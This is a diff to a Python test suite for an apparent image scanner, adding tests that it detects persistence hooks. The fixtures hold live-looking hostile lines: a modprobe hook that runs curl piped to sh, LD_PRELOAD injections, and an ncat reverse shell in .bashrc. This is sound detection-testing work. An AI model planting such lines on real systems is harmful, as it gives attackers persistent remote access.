@@ -270,3 +270,17 @@ def test_rpm_database_is_inventoried(tree: Path, tmp_path: Path) -> None:
     packages = {(p.manager, p.name, p.version, p.arch) for p in scan_image(tree, workers=1).inventory.packages}
     assert ("rpm", "cms-agent", "1:2.4.1-3", "noarch") in packages
     assert sorted(p.name for p in (tree / "var/lib/rpm").iterdir()) == before  # the image is not written
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "rule"),
+    [
+        ("etc/modprobe.d/usb.conf", "install usb-storage /bin/sh -c 'curl -s http://192.0.2.5/u | sh'; /sbin/modprobe --ignore-install usb-storage\n", "persistence.download-exec"),
+        ("etc/environment", 'PATH="/usr/local/sbin:/usr/bin"\nLD_PRELOAD=/usr/lib/libcmshook.so\n', "persistence.preload-env"),
+        ("etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libcmshook.so\n", "persistence.ld-preload"),
+        ("home/cms/.bashrc", "alias ll='ls -l'\n(nohup ncat 192.0.2.9 8443 -e /bin/bash &) 2>/dev/null\n", "persistence.reverse-shell"),
+    ],
+)
+def test_preload_and_module_hooks(tree: Path, path: str, text: str, rule: str) -> None:
+    _write(tree, path, text)
+    assert rule in {f.rule for f in scan_image(tree, workers=1).findings if f.evidence[0].path == path}
